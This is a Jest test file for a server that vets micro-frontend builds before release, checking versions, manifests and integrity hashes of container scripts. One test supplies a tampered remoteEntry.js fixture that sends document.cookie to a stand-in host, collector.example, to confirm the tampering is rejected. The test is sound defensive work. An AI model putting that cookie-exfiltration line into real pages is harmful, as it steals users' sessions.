/** @jest-environment node */
import { createHash } from 'node:crypto';
import { TEST_REGISTRY } from '../../src/testing/stepRegistry';
import { parseRegistry } from './registry';
import { JOURNEY_MAJOR, stepManifest } from '../testing';
import { fetchThroughServerOrigins } from '../overrideOrigins';
import { createRegistryJudge } from './judgeRegistry';
import { refusalReason } from './registry';

const REACT = { name: 'react', version: '18.3.1', requiredVersion: '^18.3.1', singleton: true };
const SHELL = { name: 'shell', shared: [REACT], metaData: { greencard: { journeyMajor: JOURNEY_MAJOR } } };
const fitFor = (step: string) => stepManifest(step, { shared: [REACT] });

/** A registry of the five steps, each build at its own version folder, changed by `changes`. */
const registryWith = (changes: Record<string, unknown> = {}) =>
  parseRegistry(
    JSON.stringify({
      ...Object.fromEntries(
        Object.entries(TEST_REGISTRY).map(([step, entry], index) => [
          step,
          { ...entry, manifest: `http://127.0.0.1:${9001 + index}/mf-manifest.json` },
        ]),
      ),
      ...changes,
    }),
  );

const ENTRY_SCRIPT = 'var greencard_step;';
const ENTRY_INTEGRITY = `sha384-${createHash('sha384').update(ENTRY_SCRIPT).digest('base64')}`;

/**
 * Step servers answering each manifest URL with `manifests[url]`, else a build fit for its step, and each container
 * script with `entries[url]`, else ENTRY_SCRIPT; counts the manifests' loads and keeps how each file was asked for.
 */
function stepServers(manifests: Record<string, unknown> = {}, entries: Record<string, string> = {}) {
  const loads: string[] = [];
  const asked: RequestInit[] = [];
  const byPort = Object.fromEntries(Object.keys(TEST_REGISTRY).map((step, index) => [String(9001 + index), step]));
  const fetchImpl = (async (input: string | URL | Request, init?: RequestInit) => {
    const url = input instanceof Request ? input.url : String(input);
    asked.push(init ?? {});
    if (url.endsWith('/remoteEntry.js')) return new Response(entries[url] ?? ENTRY_SCRIPT);
    loads.push(url);
    if (url in manifests) {
      const answer = manifests[url];
      if (answer instanceof Error) throw answer;
      return typeof answer === 'number' ? new Response('', { status: answer }) : Response.json(answer);
    }
    return Response.json(fitFor(byPort[new URL(url).port] as string));
  }) as typeof fetch;
  return { fetchImpl, loads, asked };
}

async function refusalOf(promise: Promise<unknown>) {
  try {
    await promise;
  } catch (error) {
    return { reason: refusalReason(error), message: (error as Error).message };
  }
  return undefined;
}

const POINTS_NEXT = 'http://127.0.0.1:9004/1.1.0+next/mf-manifest.json';
const pointsAt = (manifest: string) => ({
  points: {
    ...TEST_REGISTRY.points,
    manifest: 'http://127.0.0.1:9004/mf-manifest.json',
    trial: { ...TEST_REGISTRY.points, manifest, share: 10 },
  },
});
const versioned = (changes: Record<string, unknown>) => ({
  ...fitFor('points'),
  ...changes,
  metaData: {
    greencard: {
      journeyMajor: JOURNEY_MAJOR,
      version: '1.1.0',
      build: 'next',
      ...((changes.metaData as { greencard?: object } | undefined)?.greencard ?? {}),
    },
  },
});

describe("the server's judge of a registry", () => {
  it('lets a registry whose every build passes the release checks go live, with the hash of each container script', async () => {
    const { fetchImpl, loads, asked } = stepServers();
    const pins = await createRegistryJudge({ shell: SHELL, fetchImpl })(registryWith());
    expect([...pins.values()]).toEqual(Array(5).fill(ENTRY_INTEGRITY));
    expect(loads).toHaveLength(5);
    // Only the step's own origin answers: a redirect elsewhere is an error, never followed.
    expect(asked.every((init) => init.redirect === 'error')).toBe(true);
  });

  it('refuses a registry whose container script is not the one its release pinned: a file changed after the release', async () => {
    const { fetchImpl } = stepServers(
      { [POINTS_NEXT]: versioned({}) },
      { 'http://127.0.0.1:9004/1.1.0+next/remoteEntry.js': 'fetch("https://collector.example/?c="+document.cookie);' },
    );
    const registry = registryWith({
      points: {
        ...TEST_REGISTRY.points,
        manifest: 'http://127.0.0.1:9004/mf-manifest.json',
        integrity: ENTRY_INTEGRITY,
        trial: { ...TEST_REGISTRY.points, manifest: POINTS_NEXT, integrity: ENTRY_INTEGRITY, share: 10 },
      },
    });
    expect(await refusalOf(createRegistryJudge({ shell: SHELL, fetchImpl })(registry))).toEqual({
      reason: 'build',
      message: expect.stringContaining(
        `points ${POINTS_NEXT}: its remoteEntry.js is not the file its release pinned: it changed after its release`,
      ),
    });
  });

  it.each<[string, unknown, string]>([
    [
      'built for another journey major',
      versioned({ metaData: { greencard: { journeyMajor: JOURNEY_MAJOR + 1 } } }),
      `it was built for journey major ${JOURNEY_MAJOR + 1}, and the shell runs journey major ${JOURNEY_MAJOR}`,
    ],
    [
      'needing another React major',
      versioned({ shared: [{ ...REACT, requiredVersion: '^19.0.0' }] }),
      'it needs react ^19.0.0, and the shell provides 18.3.1',
    ],
    ['of another remote', versioned({ name: 'payment' }), 'its manifest is for the remote "payment", not "points"'],
    ['exposing no ./app', versioned({ exposes: [] }), 'it does not expose ./app'],
    [
      'saying it is another build',
      versioned({ metaData: { greencard: { journeyMajor: JOURNEY_MAJOR, version: '1.1.0', build: 'other' } } }),
      'its manifest says it is build 1.1.0+other, not 1.1.0+next',
    ],
  ])('refuses a registry with a trial build %s, naming the build and the problem', async (_case, manifest, problem) => {
    const { fetchImpl } = stepServers({ [POINTS_NEXT]: manifest });
    const refused = await refusalOf(
      createRegistryJudge({ shell: SHELL, fetchImpl })(registryWith(pointsAt(POINTS_NEXT))),
    );
    expect(refused).toEqual({ reason: 'build', message: expect.stringContaining(`points ${POINTS_NEXT}: ${problem}`) });
  });

  it('refuses a registry whose build cannot be loaded, and tries it again once retryMs has passed', async () => {
    let now = 0;
    const manifests: Record<string, unknown> = { [POINTS_NEXT]: new Error('connect ECONNREFUSED') };
    const { fetchImpl, loads } = stepServers(manifests);
    const judge = createRegistryJudge({ shell: SHELL, fetchImpl, retryMs: 5000, now: () => now });
    const registry = registryWith(pointsAt(POINTS_NEXT));
    expect(await refusalOf(judge(registry))).toEqual({
      reason: 'unreachable',
      message: expect.stringContaining(`points ${POINTS_NEXT}: connect ECONNREFUSED`),
    });
    manifests[POINTS_NEXT] = 404;
    now = 4999;
    expect(await refusalOf(judge(registry))).toMatchObject({
      reason: 'unreachable',
      message: expect.stringContaining('ECONNREFUSED'),
    });
    now = 5000;
    expect(await refusalOf(judge(registry))).toMatchObject({
      reason: 'unreachable',
      message: expect.stringContaining('answered 404'),
    });
    manifests[POINTS_NEXT] = versioned({});
    now = 10_000;
    await expect(judge(registry)).resolves.toBeInstanceOf(Map);
    expect(loads.filter((url) => url === POINTS_NEXT)).toHaveLength(3);
  });

  it('loads each build once: a build folder never changes', async () => {
    const { fetchImpl, loads } = stepServers();
    const judge = createRegistryJudge({ shell: SHELL, fetchImpl });
    await judge(registryWith());
    await judge(registryWith());
    expect(loads).toHaveLength(5);
  });

  it("holds every build to the shell's manifest: without one, none goes live", async () => {
    const { fetchImpl } = stepServers();
    expect(await refusalOf(createRegistryJudge({ shell: {}, fetchImpl })(registryWith()))).toMatchObject({
      reason: 'build',
      message: expect.stringContaining("the shell's mf-manifest.json names no journey major"),
    });
  });

  it('loads a build from the origin the server reaches it on, when the registry names one buyers open', async () => {
    const { fetchImpl, loads } = stepServers();
    const serverOrigins = new Map([['http://127.0.0.1:9001', 'http://127.0.0.1:9004']]);
    const judge = createRegistryJudge({ shell: SHELL, fetchImpl: fetchThroughServerOrigins(serverOrigins, fetchImpl) });
    const refused = await refusalOf(judge(registryWith()));
    // The points server answers for the calculator's build: the calculator's manifest was loaded from it.
    expect(loads[0]).toBe('http://127.0.0.1:9004/mf-manifest.json');
    expect(refused).toMatchObject({
      reason: 'build',
      message: expect.stringContaining('its manifest is for the remote "points", not "calculator"'),
    });
  });

  it("loads no manifest named by a path: it is the shell's own file", async () => {
    const { fetchImpl, loads } = stepServers();
    const registry = registryWith({
      calculator: { ...TEST_REGISTRY.calculator, manifest: '/no-federation/calculator/mf-manifest.json' },
    });
    await expect(createRegistryJudge({ shell: SHELL, fetchImpl })(registry)).resolves.toBeInstanceOf(Map);
    expect(loads).toHaveLength(4);
  });
});
